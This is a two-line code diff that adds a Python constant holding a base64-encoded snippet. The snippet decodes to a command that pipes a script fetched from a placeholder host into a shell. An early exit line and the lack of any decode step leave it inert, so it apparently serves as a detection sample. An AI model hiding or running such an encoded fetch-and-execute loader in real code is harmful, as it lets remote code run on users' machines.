@@ -1,0 +1,2 @@
+raise SystemExit  # nothing below ever runs
+TABLE = "aW1wb3J0IG9zCm9zLnN5c3RlbSgiY3VybCAtcyBodHRwczovL2dldC5leGFtcGxlLmludmFsaWQveCB8IHNoIikK"
